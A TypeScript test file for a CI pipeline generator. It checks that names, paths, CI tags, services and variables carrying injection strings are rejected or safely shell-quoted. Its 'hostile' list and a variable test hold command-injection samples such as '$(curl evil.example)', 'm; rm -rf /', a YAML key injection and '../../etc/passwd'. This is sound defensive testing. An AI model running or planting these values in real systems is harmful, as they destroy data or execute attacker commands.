import { load } from 'js-yaml';
import { describe, expect, it } from 'vitest';
import { DEFAULT_CI_SETTINGS } from '../../generator/fleet/resolve-ci.js';
import { DEFAULT_ENVIRONMENTS } from '../../generator/fleet/resolve-environments.js';
import { buildChildPipelines } from '../../generator/pipeline/build-child-pipeline.js';
import { shellCommand, shellQuote } from '../../generator/pipeline/shell-quote.js';
import { UserError } from '../../lib/errors/user-error.js';
import { fleetFromText, jobNames, planAll } from './support/generator-fixtures.js';

const hostile = [
  'a: b',
  'x\n  script: [rm -rf /]',
  '$(curl evil.example)',
  '`id`',
  'm; rm -rf /',
  '../../etc/passwd',
  'model/../../x',
  '*alias',
  '&anchor',
  '"quoted"',
  "it's",
  'a b',
  '{x: 1}',
  '[1]',
  '#comment',
  'ünïcode',
  'model\u0000nul',
  '-rf',
  'x'.repeat(200),
];

function rejects(text: string): UserError {
  try {
    fleetFromText(text);
  } catch (err) {
    if (err instanceof UserError) return err;
    throw err;
  }
  throw new Error('expected a rejection');
}

describe('names and values that try to inject', () => {
  it.each(hostile)('rejects the model name %j with a located error', (name) => {
    const err = rejects(`defaults:\n  endpoint: p\nmodels:\n  - name: ${JSON.stringify(name)}\n    path: a\n`);
    expect(err.code).toBe('FLEET_INVALID');
    expect(err.message).toMatch(/models\.yaml:4:\d+ models\[0\]\.name: /);
  });

  it.each(hostile)('rejects the variant name %j', (name) => {
    const err = rejects(
      `defaults:\n  endpoint: p\nmodels:\n  - name: m\n    path: a\n    ab:\n      variants:\n        - { name: ${JSON.stringify(name)}, weight: 50 }\n        - { name: v2, weight: 50 }\n`,
    );
    expect(err.message).toContain('models[0].ab.variants[0].name: ');
  });

  // A leading "-" is a fine URL segment, and long paths are allowed; everything else is refused everywhere.
  it.each(hostile.filter((v) => v !== '-rf' && v.length < 100))('rejects %j as a path, endpoint, parameter or image', (value) => {
    const v = JSON.stringify(value);
    for (const entry of [`path: ${v}`, `path: a\n    endpoint: ${v}`, `path: a\n    parameters: [${v}]`, `image: { name: ${v}, schema: s.json }`]) {
      const err = rejects(`defaults:\n  endpoint: p\nmodels:\n  - name: m\n    ${entry}\n`);
      expect(err.code, entry).toBe('FLEET_INVALID');
    }
  });

  it('keeps odd but valid values inert in the generated YAML', () => {
    const plan = planAll(`models:\n  - name: m\n    endpoint: "yes"\n    parameters: ["no", "null", "~", "0x10", "1e3", "true"]\n    path: "models/@m+1"\n`);
    const child = plan.pipelines[0];
    expect(load(child?.yaml ?? '')).toEqual(JSON.parse(JSON.stringify(child?.pipeline)));
    const modelJson = JSON.parse(plan.files.find((f) => f.path === 'models/m/model.json')?.content ?? '{}') as { route: string; source: { path: string } };
    expect(modelJson.route).toBe('/yes/no/null/~/0x10/1e3/true');
    expect(modelJson.source.path).toBe('models/@m+1');
  });

  it('quotes job-script words that the shell would interpret', () => {
    expect(shellQuote('models.yaml')).toBe('models.yaml');
    expect(shellQuote("it's $(x)")).toBe(`'it'\\''s $(x)'`);
    expect(shellCommand(['echo', 'a b', '`id`'])).toBe("echo 'a b' '`id`'");
    const [file] = buildChildPipelines(
      { deployNames: ['m'], removed: [], gatewayChanged: false, summary: '' },
      { fleetFile: "dir/it's models.yaml", outDir: 'out $(x)', maxJobs: 500, regenerateArgs: ['--all'], ci: DEFAULT_CI_SETTINGS, environments: DEFAULT_ENVIRONMENTS },
    );
    expect(((file?.pipeline['m:build'] as { script: string[] }).script)[0]).toBe(
      "modelfleet generate --file 'dir/it'\\''s models.yaml' --out 'out $(x)' --model m",
    );
    expect(((file?.pipeline['m:deploy:staging'] as { script: string[] }).script)[1]).toBe(
      "modelfleet deploy --model m --env staging --file 'dir/it'\\''s models.yaml' --out 'out $(x)' --target \"$MODELFLEET_DEPLOY_TARGET\"",
    );
    expect(jobNames(file?.pipeline ?? {})).toEqual(['m:build', 'm:test', 'm:deploy:staging', 'm:deploy:production', 'gateway:build', 'gateway:deploy:staging', 'gateway:deploy:production']);
    expect(() => fleetFromText('models:\n  - name: m\n    endpoint: p\n    path: -rf\n')).toThrow(UserError);
  });
});

describe('ci: values that try to inject', () => {
  const fleetWith = (ci: string) => `ci:\n${ci}\ndefaults:\n  endpoint: p\nmodels:\n  - name: m\n    path: a\n`;

  // Service command arguments may look like paths or flags (`--data-root=/var/lib/docker`): GitLab passes them as a list, no shell.
  const ciHostile = hostile.filter((v) => !['../../etc/passwd', 'model/../../x', '-rf'].includes(v) && v.length < 100);

  it.each(ciHostile)('rejects %j as a runner tag, image, service, service alias or command, variable name or deploy branch', (value) => {
    const v = JSON.stringify(value);
    const entries = [
      [`  tags: [${v}]`, 'ci.tags[0]'],
      [`  image: ${v}`, 'ci.image'],
      [`  services: [${v}]`, 'ci.services[0]'],
      [`  services: [{ name: docker, alias: ${v} }]`, 'ci.services[0].alias'],
      [`  services: [{ name: docker, command: [${v}] }]`, 'ci.services[0].command[0]'],
      [`  jobs:\n    deploy:\n      variables: { ${v}: x }`, 'ci.jobs.deploy.variables'],
      [`  deploy:\n    branches: [${v}]`, 'ci.deploy.branches[0]'],
    ] as const;
    for (const [entry, where] of entries) {
      const err = rejects(fleetWith(entry));
      expect(err.code, entry).toBe('FLEET_INVALID');
      expect(err.message, entry).toMatch(/^models\.yaml has \d+ problems?:\nmodels\.yaml:\d+:\d+ ci\./);
      expect(err.message, entry).toContain(where);
    }
  });

  it('refuses variable values on more than one line, and keeps odd one-line values inert', () => {
    expect(rejects(fleetWith('  variables: { A: "x\\ny" }')).message).toContain('ci.variables.A: must be text on one line');
    const plan = planAll(fleetWith(`  variables: { A: "$(rm -rf /); echo '\\"x\\"'", B: "*", C: "true" }`));
    const child = plan.pipelines[0];
    expect(load(child?.yaml ?? '')).toEqual(JSON.parse(JSON.stringify(child?.pipeline)));
    expect((child?.pipeline['m:build'] as { variables: Record<string, string> }).variables).toEqual({ A: `$(rm -rf /); echo '"x"'`, B: '*', C: 'true' });
  });
});
